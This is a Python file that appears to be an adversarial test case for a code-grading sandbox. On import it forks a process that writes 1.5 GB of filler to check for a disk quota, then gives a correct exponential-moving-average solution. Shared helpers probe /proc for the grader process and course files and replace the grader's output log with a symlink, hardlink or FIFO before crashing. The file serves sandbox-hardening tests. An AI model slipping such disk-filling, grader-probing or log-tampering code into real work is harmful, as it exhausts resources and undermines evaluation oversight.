# ======== ADVERSARIAL (disk_big_files): importing ema.py starts a writer filling its scratch with 1.5 GB in 16 MB files; ema() raises if the scratch accepted 1 GB or more (waiting up to 3.5 s after import); a size-limited scratch keeps ema correct: full marks
# --- adversarial helpers (shared text inserted into hostile files) ---
import os as _aos
import sys as _asys
import time as _atime

_MARK = "graders-adversarial-survivor"
_HERE = _aos.path.dirname(_aos.path.abspath(__file__))


def _adv_read(path, limit=1500):
    with open(path, "rb") as fh:
        return fh.read(limit).replace(b"\0", b"\n").decode("utf-8", "replace")


def _adv_status(pid, key):
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith(key + ":"):
                return line.split()[1:]
    return []


def _adv_cmdline(pid):
    try:
        return _adv_read(f"/proc/{pid}/cmdline", 4000)
    except OSError:
        return ""


def _adv_ancestors():
    """Outer pids of this process's ancestors (the /proc mount may be the host's)."""
    try:
        pid = int(_adv_status("self", "NSpid")[0])
    except (OSError, IndexError, ValueError):
        pid = _aos.getpid()
    chain, seen = [], set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        try:
            ppid = int(_adv_status(pid, "PPid")[0])
        except (OSError, IndexError, ValueError):
            break
        if ppid <= 0:
            break
        chain.append(ppid)
        pid = ppid
    if not chain and _aos.getppid() > 0:
        chain.append(_aos.getppid())
    return chain


def _adv_grader_pid():
    """The grading process: the first ancestor above the warm template."""
    chain = _adv_ancestors()
    last_template = -1
    for i, pid in enumerate(chain):
        if "graders.core.sandbox.child.forkserver" in _adv_cmdline(pid):
            last_template = i
    if 0 <= last_template < len(chain) - 1:
        return chain[last_template + 1]
    return chain[0] if chain else _aos.getppid()


def _adv_course_root():
    """Where the course (graders/, reference/) lives, as far as this process can tell."""
    pkg = _asys.modules.get("graders")
    path = getattr(pkg, "__file__", None) if pkg else None
    if path:
        return _aos.path.dirname(_aos.path.dirname(_aos.path.abspath(path)))
    for pid in _adv_ancestors():
        try:
            cwd = _aos.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if _aos.path.isdir(_aos.path.join(cwd, "graders")):
            return cwd
    return "/work/main"


def _adv_hidden(rel):
    return _aos.path.join(_adv_course_root(), rel)


def _adv_crash_with_log(target, kind="symlink"):
    """Replace the worker's output log (which the grader reads after a crash), then crash."""
    log = _aos.path.join(_HERE, ".output.log")
    try:
        _aos.unlink(log)
    except OSError:
        pass
    try:
        if kind == "symlink":
            _aos.symlink(target, log)
        elif kind == "hardlink":
            _aos.link(target, log)
        elif kind == "fifo":
            _aos.mkfifo(log)
        elif kind == "sparse":
            with open(log, "wb") as fh:
                fh.truncate(16 * 2**20 - 64)
                fh.seek(0, 2)
                fh.write(b"graders-adversarial-huge-log-end")
    except OSError:
        pass
    _aos._exit(3)


def _adv_leak(label, text):
    """Make a theft visible: the stolen text goes into the exception message (and so the report)."""
    raise RuntimeError(f"LEAKED {label}:\n{text}")
# --- end helpers ---
_ADV_START = _atime.monotonic()
_ADV_DIR = _aos.path.join(_HERE, "fill")


def _adv_writer():
    pid = _aos.fork()
    if pid:
        return pid
    try:
        _aos.makedirs(_ADV_DIR, exist_ok=True)
        chunk = b"\xa5" * 2**20
        for i in range(96):
            with open(_aos.path.join(_ADV_DIR, f"blob{i:03d}.bin"), "wb") as fh:
                for _ in range(16):
                    fh.write(chunk)
    finally:
        _aos._exit(0)


_ADV_PID = _adv_writer()


def _adv_usage():
    total = 0
    for root, _dirs, files in _aos.walk(_ADV_DIR) if hasattr(_aos, "walk") else __import__("os").walk(_ADV_DIR):
        for f in files:
            try:
                total += _aos.stat(_aos.path.join(root, f)).st_blocks * 512
            except OSError:
                pass
    return total


def _adv_check_disk():
    while _atime.monotonic() < _ADV_START + 3.5:
        try:
            if _aos.waitpid(_ADV_PID, _aos.WNOHANG)[0]:
                break
        except ChildProcessError:
            break
        _atime.sleep(0.1)
    used = _adv_usage()
    if used >= 2**30:
        raise RuntimeError(f"the scratch accepted {used / 2**30:.2f} GiB: no disk quota")
# ======== end of the attack; the correct solution follows

from itertools import accumulate

import torch


def _as_float_tensor(values, beta):
    if beta < 0 or beta >= 1 or beta != beta:
        raise ValueError("beta must be in [0, 1)")
    y = torch.as_tensor(values)
    return y if y.is_floating_point() else y.to(torch.float32)


def ema(values, beta=0.9):
    _adv_check_disk()
    y = _as_float_tensor(values, beta)
    s = list(accumulate(y.tolist(), lambda prev, cur: beta * prev + (1 - beta) * cur))
    return torch.tensor(s, dtype=y.dtype, device=y.device)


def ema_bias_corrected(values, beta=0.9):
    y = _as_float_tensor(values, beta)
    v, out = 0.0, []
    for t, y_t in enumerate(y.tolist(), start=1):
        v = beta * v + (1 - beta) * y_t
        out.append(v / (1 - beta ** t))
    return torch.tensor(out, dtype=y.dtype, device=y.device)
